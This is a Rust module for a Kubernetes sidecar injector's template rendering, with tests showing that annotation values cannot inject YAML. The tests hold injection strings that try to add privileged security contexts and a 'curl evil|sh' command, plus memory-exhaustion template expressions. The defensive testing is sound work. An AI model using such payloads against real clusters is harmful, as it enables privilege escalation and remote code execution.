//! Sidecar templates (minijinja): compiled once per configuration, rendered per object.
//!
//! Two forms. A *field template* is any string of a sidecar definition holding `{{ }}` or
//! `{% %}`; it renders to that one string (or, when the string is a single `{{ expr }}`, to the
//! expression's value with its type), so whatever a manifest contains cannot add a field. A
//! *whole template* (`template:`) renders YAML text with loops and conditionals. There every
//! `{{ }}` prints a placeholder, not its value: the text is read as YAML with the placeholders
//! in it, and each value is then put where its placeholder is in what was read — the whole
//! node when the placeholder is a plain scalar alone, else its text inside the scalar (quoted,
//! block, or beside other text; a key). What a value holds is never read as YAML, so no value
//! can close a quote or a bracket of the template, start a line, or add a field, whatever
//! context the template put it in (Istio's kube-inject shipped a fix for annotations that did).
//!
//! `compiled` holds a configuration's templates and renders them, in the environment `env`
//! makes (with the `filters`, `functions` and `go` filters it registers and the `limits` of a
//! render); `fill` puts a whole template's printed values back; `context` is what a render
//! reads; `trial` tries every template once at load; `error` holds what fails.

mod compiled;
mod context;
mod env;
mod error;
mod fill;
mod filters;
mod functions;
mod go;
mod limits;
mod trial;

pub(crate) use compiled::{Dialect, Templates};
#[cfg(any(test, feature = "oracles"))]
pub(crate) use context::context;
pub(crate) use context::{Source, context_of};
pub(crate) use error::SyntaxError;
pub(crate) use trial::{Fault, suggest_value};

#[cfg(test)]
mod tests {
    use serde_json::{Map, Value, json};

    use super::error::TemplateError;
    use super::*;

    fn ctx() -> minijinja::Value {
        let pod = json!({
            "metadata": {"annotations": {"sidecar-injector.expedia.com/some-api-key": "6feab492",
                                         "evil": "x\"\n  privileged: true"}},
            "spec": {"serviceAccountName": "billing"},
        });
        let workload = json!({"apiVersion": "apps/v1", "kind": "Deployment",
                              "metadata": {"name": "web", "namespace": "prod"}});
        let values = json!({"port": 8080, "registry": "r.io"});
        context(&pod, &workload, "prod", values.as_object().unwrap())
    }

    #[test]
    fn field_templates_keep_types_and_stay_strings() {
        let mut t = Templates::new();
        let def = json!({"containers": [{"name": "p", "image": "{{ values.registry }}/p:1",
                "ports": [{"containerPort": "{{ values.port }}"}],
                "env": [{"name": "E", "value": "{{ annotations['evil'] }}"}]}],
                "volumes": [{"name": "aws", "secret": {"secretName": "aws-iam-{{ pod.spec.serviceAccountName }}"}}]});
        t.add_sidecar("p", &def, None, Dialect::Native).unwrap();
        let out = t.render_fields("p", &def, &ctx()).unwrap();
        assert_eq!(out["containers"][0]["image"], "r.io/p:1");
        assert_eq!(out["containers"][0]["ports"][0]["containerPort"], 8080);
        assert_eq!(
            out["containers"][0]["env"][0]["value"],
            "x\"\n  privileged: true"
        );
        assert_eq!(out["volumes"][0]["secret"]["secretName"], "aws-iam-billing");
    }

    #[test]
    fn whole_templates_loop_and_quote_object_values() {
        let mut t = Templates::new();
        let text = "containers:\n- name: agent\n  image: {{ values.registry }}/agent\n  env:\
                    \n{% for k, v in annotations|items if k.startswith('sidecar-injector.expedia.com/') %}  \
                    - name: {{ k.split('/')[1] }}\n    value: {{ v }}\n{% endfor %}  - name: EVIL\
                    \n    value: {{ annotations.evil }}\n";
        t.add_sidecar("agent", &json!({}), Some(text), Dialect::Native)
            .unwrap();
        let parsed = t.render_whole("agent", &ctx()).unwrap().unwrap();
        assert_eq!(parsed["containers"][0]["image"], "r.io/agent");
        assert_eq!(
            parsed["containers"][0]["env"][0],
            json!({"name": "some-api-key", "value": "6feab492"})
        );
        assert_eq!(
            parsed["containers"][0]["env"][1]["value"],
            "x\"\n  privileged: true"
        );
        assert!(parsed["containers"][0].get("privileged").is_none());
    }

    /// Renders whole template `text` for an object whose annotation `a` holds `attack`.
    fn whole(text: &str, attack: &str) -> Result<Value, TemplateError> {
        let mut t = Templates::new();
        t.add_sidecar("w", &json!({}), Some(text), Dialect::Native)
            .unwrap();
        let pod = json!({"metadata": {"annotations": {"a": attack}}, "spec": {}});
        let values =
            json!({"registry": "r.io", "port": "8080", "env": [{"name": "X", "value": "1"}]});
        t.render_whole(
            "w",
            &context(&pod, &json!({}), "", values.as_object().unwrap()),
        )
        .unwrap()
    }

    #[test]
    fn printed_values_stay_where_the_template_put_them() {
        // Flow context, quotes, a prefix: the attacks of the security review, each of which
        // once closed the template's own quotes and brackets.
        let attacks = [
            "x'}], securityContext: {privileged: true}, command: [/bin/sh, -c, 'curl evil|sh'], ports: \
             [{containerPort: 8080, name: 'p",
            "}], securityContext: {privileged: true}, envFrom: [{prefix: ",
            "x], securityContext: {privileged: true}, stdin: true, args: [y",
            "x\"\n  privileged: true",
            "a\n- b\nc: d",
            "&x *x !!map {} [] # c",
        ];
        let text = "containers:\n- {name: c, image: i, args: [--level={{ a }}, x], env: [{name: A, value: '{{ a }}'}, \
                    {name: B, value: \"{{ a }}\"}, {name: C, value: {{ a }} }]}\n- name: d\n  image: i\n  args:\
                    \n  - {{ a }}\n  - x-{{ a }}-y\n  - |\n    run {{ a }}\n";
        let text = text.replace("{{ a }}", "{{ annotations.a }}");
        for attack in attacks {
            let out = whole(&text, attack).unwrap();
            assert_eq!(
                out,
                json!({"containers": [
                    {"name": "c", "image": "i", "args": [format!("--level={attack}"), "x"],
                     "env": [{"name": "A", "value": attack}, {"name": "B", "value": attack},
                             {"name": "C", "value": attack}]},
                    {"name": "d", "image": "i",
                     "args": [attack, format!("x-{attack}-y"), format!("run {attack}\n")]},
                ]}),
                "{attack:?}"
            );
        }
    }

    #[test]
    fn printed_values_keep_their_types_as_whole_nodes() {
        let text = "containers:\n- name: c\n  image: {{ values.registry }}/c:1\n  ports:\
                    \n  - containerPort: {{ values.port }}\n  - containerPort: {{ 9090 }}\n  env: {{ values.env }}\
                    \n  args: [{{ annotations.a }}, '{{ values.port }}']\n  workingDir: {{ none }}\n";
        let out = whole(text, "true").unwrap();
        assert_eq!(
            out["containers"][0],
            json!({"name": "c", "image": "r.io/c:1",
                       "ports": [{"containerPort": 8080}, {"containerPort": 9090}],
                       "env": [{"name": "X", "value": "1"}],
                       // The annotation's text is a string, whatever it looks like; the
                       // configuration's `"8080"` reads as YAML where a node is (trusted text).
                       "args": ["true", "8080"], "workingDir": null})
        );
    }

    #[test]
    fn keys_macros_and_set_blocks() {
        let text = "{% macro env(n, v) %}- name: {{ n }}\n  value: {{ v }}\
                    \n{% endmacro %}{% set image %}i:{{ annotations.a }}{% endset %}containers:\n- name: c\
                    \n  image: {{ image }}\n  env:\n{{ env('A', annotations.a) | indent(2, true) }}\n  resources:\
                    \n    limits:\n      {{ annotations.a }}: 1\n";
        let out = whole(text, "x: y, z").unwrap();
        assert_eq!(
            out["containers"][0],
            json!({"name": "c", "image": "i:x: y, z",
                       "env": [{"name": "A", "value": "x: y, z"}],
                       "resources": {"limits": {"x: y, z": 1}}})
        );
    }

    #[test]
    fn marks_in_templates_and_oversized_values_are_refused() {
        let errs = Templates::new()
            .add_sidecar(
                "m",
                &json!({}),
                Some("containers: [\u{E000}0\u{E001}]"),
                Dialect::Native,
            )
            .unwrap_err();
        assert!(errs[0].message.contains("U+E000"), "{}", errs[0].message);
        // Each print is small; what they put in together is bounded like the output.
        let text = "containers:\n- name: c\n  image: i\n  args:\n{% for i in range(40) %}  - {{ annotations.a }}\
                    \n{% endfor %}";
        let err = whole(text, &"x".repeat(40_000)).unwrap_err();
        assert!(err.message.contains("larger than"), "{}", err.message);
        // A template whose own text is not YAML says where, with the printed value shown
        // as its number.
        let err = whole("containers: [{{ annotations.a }}\n", "v").unwrap_err();
        assert_eq!(err.code, "kinject::template::invalid_yaml");
        assert!(err.message.contains("line 1"), "{}", err.message);
        assert!(err.message.contains("{0}"), "{}", err.message);
    }

    #[test]
    fn filters_refuse_strings_past_the_limit_before_making_them() {
        let mut t = Templates::new();
        for (n, expr) in [
            r#""%999999999s"|format("x")"#,
            r#""{:>999999999}".format("x")"#,
            r#"("x\n" * 1000000)|indent(1000)"#,
            r#"("x\n" * 1000000)|indent(width=1000)"#,
            r#"("x" * 100000)|replace("x", "y" * 10000)"#,
            r#"("x" * 100000).replace("x", "y" * 10000)"#,
        ]
        .iter()
        .enumerate()
        {
            let name = format!("f{n}");
            let def = json!({"x": format!("{{{{ {expr} }}}}")});
            t.add_sidecar(&name, &def, None, Dialect::Native).unwrap();
            let started = std::time::Instant::now();
            let err = t.render_fields(&name, &def, &ctx()).unwrap_err();
            assert!(
                err.message.contains("more than the"),
                "{expr}: {}",
                err.message
            );
            assert!(started.elapsed().as_secs() < 2, "{expr}: made first");
        }
        // Within the limit they work as minijinja's own.
        let def = json!({"x": "{{ '%5s|%-3d'|format('a', 7) }}{{ 'a\nb'|indent(2) }}{{ 'aXb'|replace('X', '-') }}\
                               {{ 'q'.replace('q', 'r') }}"});
        t.add_sidecar("ok", &def, None, Dialect::Native).unwrap();
        let out = t.render_fields("ok", &def, &ctx()).unwrap();
        assert_eq!(out["x"], "    a|7  a\n  ba-br");
    }

    #[test]
    fn pod_functions_and_parsing_filters() {
        let mut t = Templates::new();
        let def = json!({"containers": [{"name": "p",
                "args": ["{{ annotation('sidecar-injector.expedia.com/some-api-key') }}",
                         "{{ annotation('missing') }}", "{{ annotation('missing', 'd') }}",
                         "{{ service_account() }}"],
                "ports": [{"containerPort": "{{ '8080' | yaml_scalar }}"}],
                "volumeMounts": "{{ '[{\"name\": \"a\", \"mountPath\": \"/a\"}]' | from_json }}",
                "workingDir": "{{ none }}", "command": ["a", "{{ none }}", "{{ none }}", "b"]}]});
        t.add_sidecar("p", &def, None, Dialect::Native).unwrap();
        let out = t.render_fields("p", &def, &ctx()).unwrap();
        let c = &out["containers"][0];
        assert_eq!(c["args"], json!(["6feab492", "", "d", "billing"]));
        assert_eq!(c["ports"][0]["containerPort"], 8080);
        assert_eq!(c["volumeMounts"], json!([{"name": "a", "mountPath": "/a"}]));
        assert!(c.get("workingDir").is_none(), "a null field is left out");
        assert_eq!(c["command"], json!(["a", "b"]), "so is a null list item");
        // A pod that names no service account runs as `default`.
        let bare = context(&json!({"spec": {}}), &json!({}), "", &Map::new());
        let mut t = Templates::new();
        let def = json!({"x": "{{ service_account() }}", "y": "{{ annotation('a') }}"});
        t.add_sidecar("q", &def, None, Dialect::Native).unwrap();
        let out = t.render_fields("q", &def, &bare).unwrap();
        assert_eq!(out, json!({"x": "default", "y": ""}));
    }

    #[test]
    fn strict_undefined_and_syntax_errors() {
        let mut t = Templates::new();
        let def = json!({"containers": [{"name": "{{ nope.x }}"}]});
        t.add_sidecar("a", &def, None, Dialect::Native).unwrap();
        let err = t.render_fields("a", &def, &ctx()).unwrap_err();
        assert_eq!(err.pointer, "/containers/0/name");
        assert!(err.message.contains("undefined"), "{}", err.message);
        let errs = Templates::new()
            .add_sidecar(
                "b",
                &json!({"x": "{{ a + }}"}),
                Some("{% for %}"),
                Dialect::Native,
            )
            .unwrap_err();
        assert_eq!(errs.len(), 2);
    }

    #[test]
    fn only_translated_templates_call_the_go_filters() {
        for filter in ["go_printed", "go_range", "go_volume_mounts"] {
            let def = json!({"x": format!("{{{{ [] | {filter} }}}}")});
            let mut t = Templates::new();
            t.add_sidecar("native", &def, None, Dialect::Native)
                .unwrap();
            t.add_sidecar("translated", &def, None, Dialect::Translated)
                .unwrap();
            let err = t.render_fields("native", &def, &ctx()).unwrap_err();
            assert!(
                err.message.contains(&format!("filter {filter} is unknown")),
                "{}",
                err.message
            );
            let rendered = t.render_fields("translated", &def, &ctx());
            assert!(
                rendered
                    .as_ref()
                    .err()
                    .is_none_or(|e| !e.message.contains("is unknown")),
                "{filter}: {rendered:?}"
            );
        }
    }
}
